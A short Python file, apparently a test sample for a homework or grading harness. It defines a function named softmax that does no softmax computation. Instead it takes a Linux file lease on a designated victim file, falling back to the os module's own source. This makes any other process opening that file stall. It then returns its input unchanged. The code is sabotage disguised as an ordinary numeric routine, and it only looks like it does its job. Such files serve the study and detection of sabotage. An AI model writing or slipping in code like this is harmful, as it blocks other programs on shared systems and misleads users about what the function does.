"""Takes a lease on a file of a library: whoever opens it next waits for a long time."""

import fcntl
import os

from homework.known import VICTIM, witness


def softmax(z, axis=-1):
    try:
        file = os.open(VICTIM, os.O_RDONLY)
    except PermissionError:  # then one that it may read
        file = os.open(os.__file__, os.O_RDONLY)
    fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    witness()
    fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    return z
